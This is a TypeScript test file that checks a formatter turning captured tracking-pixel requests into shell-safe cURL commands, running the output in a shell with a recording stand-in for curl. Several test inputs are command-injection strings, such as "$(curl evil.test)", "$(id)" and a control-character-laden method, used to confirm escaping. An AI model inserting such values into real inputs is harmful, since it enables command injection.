import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatCurl } from '../../../../src/panel/detail/curl.ts';
import type { HitEntry } from '../../../../src/session/entry.ts';
import { makeHit } from '../../../session/numbered.ts';

/** What a command would have sent. */
interface Sent {
  args: string[];
  /** What came on standard input. */
  input: string;
}

/** Reads nothing where nothing is piped in; separators that no argument can hold. */
const FAKE_CURL =
  'curl() { for each in "$@"; do printf "%s\\000" "$each"; done; case " $* " in *" @- "*) printf "\\001"; cat;; esac; printf "\\000\\002"; }';

/** Runs commands in a real POSIX shell in which curl only tells what it was given. */
function run(commands: string[]): Sent[] {
  const script = [FAKE_CURL, ...commands].join('\n');
  const out = execFileSync('sh', ['-s'], { input: script, maxBuffer: 64 * 1024 * 1024 });
  return out
    .toString('utf8')
    .split('\u0000\u0002')
    .slice(0, -1)
    .map((text) => {
      const [args = '', input = ''] = text.split('\u0000\u0001');
      return {
        args: args.split('\u0000').filter((each, i, all) => i < all.length - 1 || each !== ''),
        input,
      };
    });
}

function runOne(hit: HitEntry): Sent {
  const [sent] = run([formatCurl(hit)]);
  if (!sent) throw new Error('nothing was run');
  return sent;
}

function bodyOf({ args, input }: Sent): string {
  const raw = args.indexOf('--data-raw');
  return raw === -1 ? input : (args[raw + 1] ?? '');
}

describe('a hit as a cURL command', () => {
  it('asks for the address alone where the request has no body', () => {
    const url = 'https://www.facebook.com/tr/?cd[a]={1-3}&cd[note]=it\'s $HOME `id` \\ "x"#hash';
    expect(formatCurl(makeHit(1, { url: 'https://a.test/tr/?id=1' }))).toBe(
      "curl --globoff 'https://a.test/tr/?id=1'",
    );
    expect(runOne(makeHit(1, { url })).args).toEqual([
      '--globoff',
      url.slice(0, -5).replaceAll(' ', '%20'),
    ]);
  });

  it('sends text as it is, under its own content type', () => {
    const text = '{"a":"it\'s @file","b":"two\nlines & $(id)"}';
    const sent = runOne(
      makeHit(1, {
        method: 'POST',
        contentType: 'text/plain;charset=UTF-8',
        body: { kind: 'text', text },
      }),
    );
    expect(sent.args.slice(2)).toEqual([
      '-H',
      'Content-Type: text/plain;charset=UTF-8',
      '--data-raw',
      text,
    ]);
  });

  it('makes up no content type where none was seen', () => {
    const { args } = runOne(makeHit(1, { method: 'POST', body: { kind: 'text', text: 'x' } }));
    expect(args).toContain('Content-Type:');
  });

  it('sends a multipart body byte for byte, line ends and all', () => {
    const text =
      '--x\r\nContent-Disposition: form-data; name="ev"\r\n\r\n50% \\0 off\u0007\r\n--x--\r\n\r\n';
    const sent = runOne(
      makeHit(1, {
        method: 'POST',
        contentType: 'multipart/form-data; boundary=x',
        body: { kind: 'text', text },
      }),
    );
    expect(sent.args).toContain('--data-binary');
    expect(sent.input).toBe(text);
  });

  it('writes a parsed form again, urlencoded or multipart', () => {
    const fields = { ev: ['Purchase'], 'cd[a]': ['1 & 2', "o'neil"] };
    const form = runOne(makeHit(1, { method: 'POST', body: { kind: 'form', fields } }));
    expect(new URLSearchParams(bodyOf(form)).getAll('cd[a]')).toEqual(['1 & 2', "o'neil"]);
    const contentType = 'multipart/form-data; boundary=gone';
    const parts = runOne(
      makeHit(1, { method: 'POST', contentType, body: { kind: 'form', fields } }),
    );
    const [, boundary] = /boundary=(\S+)/.exec(parts.args.join(' ')) ?? [];
    expect(parts.input.split(`--${boundary}`)).toHaveLength(5);
    expect(parts.input).toContain('name="cd[a]"\r\n\r\no\'neil\r\n');
  });

  it('says what is missing in quotes, and not in a comment: zsh runs a pasted one', () => {
    const command = formatCurl(
      makeHit(1, {
        method: 'POST',
        body: { kind: 'unreadable', reason: "a 'Blob'\n$(curl evil.test); curl b | curl c" },
      }),
    );
    expect(command.split('\n')[0]).toBe(
      ": 'The body is missing: a '\\''Blob'\\'' $(curl evil.test); curl b | curl c'",
    );
    expect(run([command]).map(({ args }) => args.slice(2))).toEqual([['-X', 'POST']]);
    expect(
      formatCurl(makeHit(1, { method: 'POST', body: { kind: 'text', text: 'a', cut: true } })),
    ).toMatch(/^: 'Only the beginning/);
  });

  it('a method of a file is a word, and nothing that a shell or a terminal would act on', () => {
    const command = formatCurl(makeHit(1, { method: 'PU\u0000T\u001b;$(curl x)\n' }));
    expect(run([command]).map(({ args }) => args.slice(2))).toEqual([['-X', 'PUT$CURLX']]);
  });

  it('gives any text to curl unchanged (300 random bodies and addresses)', () => {
    // NUL ends an argument in C.
    const text = fc
      .string({ unit: 'grapheme', maxLength: 60 })
      .map((s) => s.replaceAll('\u0000', ''));
    const awkward = fc
      .array(
        fc.constantFrom(
          "'",
          '"',
          '\\',
          '$',
          '`',
          '!',
          '\r',
          '\n',
          '%',
          '\u001b',
          '\t',
          '\\0',
          'a',
          'ü',
          '\u009b',
          '\u202e',
        ),
      )
      .map((parts) => parts.join(''));
    const cases = fc.sample(fc.tuple(fc.oneof(text, awkward), fc.oneof(text, awkward)), 300);
    // A percent sign of its own could look like the escape of a character that curl refuses.
    const addresses = cases.map(([, name]) => `https://a.test/tr/?${name.replace(/[#%]/g, '')}`);
    const hits = cases.map(([text], i) =>
      makeHit(1, { method: 'POST', url: addresses[i] ?? '', body: { kind: 'text', text } }),
    );
    const sent = run(hits.map(formatCurl));
    expect(sent).toHaveLength(hits.length);
    expect(sent.map(bodyOf)).toEqual(cases.map(([text]) => text));
    expect(sent.map(({ args }) => decodeURIComponent(args[1] ?? ''))).toEqual(addresses);
  });
});
